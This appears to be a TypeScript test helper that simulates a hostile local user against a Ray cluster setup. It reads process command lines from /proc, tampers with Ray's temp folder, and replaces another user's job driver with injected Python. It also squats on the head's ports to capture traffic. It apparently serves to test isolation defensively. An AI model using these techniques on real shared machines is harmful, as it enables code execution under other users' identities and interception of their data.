import { mkdirSync, readdirSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { driverFile } from '../../source/engines/ray/driver/entrypoint.ts';

/**
 * A program of another user of this machine. It uses only what every user can see, and prints a line for each thing that
 * it succeeds in. It is started as root, and gives that up first.
 */
const victim = process.getuid!();
const [, , uid, task = '', wanted = '', times = '1'] = process.argv;
process.setgroups!([]);
process.setgid!(Number(uid));
process.setuid!(Number(uid));

const reported = new Set<string>();

function report(line: string): void {
  if (!reported.has(line)) {
    reported.add(line);
    process.stdout.write(`${line}\n`);
  }
}

report('ready');

/** The value of a flag of the head's process, which every user can read. */
function* valuesOf(flag: string): Generator<string> {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    const command = attempt(() => readFileSync(`/proc/${pid}/cmdline`, 'latin1')) ?? '';
    const value = new RegExp(`\\0${flag}=([^\\0]+)`).exec(command)?.[1];
    if (value !== undefined && command.includes('ray.scripts.scripts')) {
      yield value;
    }
  }
}

function attempt<T>(action: () => T, success?: string): T | undefined {
  try {
    const result = action();
    if (success !== undefined) {
      report(success);
    }

    return result;
  } catch {
    return undefined;
  }
}

/** Tries everything inside Ray's folder, whose usual layout this program knows. */
function meddle(folder: string, mark: string): void {
  attempt(() => readdirSync(folder), 'listed');
  attempt(() => readFileSync(join(folder, 'ray_current_cluster')), 'read');
  attempt(() => writeFileSync(join(folder, 'mine'), ''), 'wrote');
  attempt(() => renameSync(folder, `${folder}-moved`), 'renamed the folder');
  const packages = join(folder, 'session_latest', 'runtime_resources', 'working_dir_files');
  for (const name of attempt(() => readdirSync(packages)) ?? []) {
    const target = join(packages, name);
    const driver = join(target, driverFile);
    if (name.endsWith('-moved') || attempt(() => statSync(driver))?.uid !== victim) {
      continue;
    }

    attempt(() => {
      renameSync(target, `${target}-moved`);
      mkdirSync(target);
      writeFileSync(
        driver,
        `import os\nopen(${JSON.stringify(mark)}, 'w').write(str(os.getuid()))\n`,
      );
    }, 'replaced the driver');
  }
}

const taken = new Set<number>();

/** Listens on a port before the head does, and reports everything sent to it. */
function take(port: number): void {
  taken.add(port);
  createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (bytes) => {
      report(`heard ${JSON.stringify(bytes.toString('latin1'))}`);
      socket.end(
        'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}',
      );
    });
  })
    .on('error', () => taken.delete(port))
    .listen(port, '127.0.0.1', () => report(`took ${port}`));
}

for (;;) {
  if (task === 'folder') {
    for (const folder of valuesOf('--temp-dir')) {
      meddle(folder, wanted);
    }
  } else {
    for (const port of valuesOf(wanted)) {
      if (!taken.has(Number(port)) && taken.size < Number(times)) {
        take(Number(port));
      }
    }
  }

  await sleep(2);
}
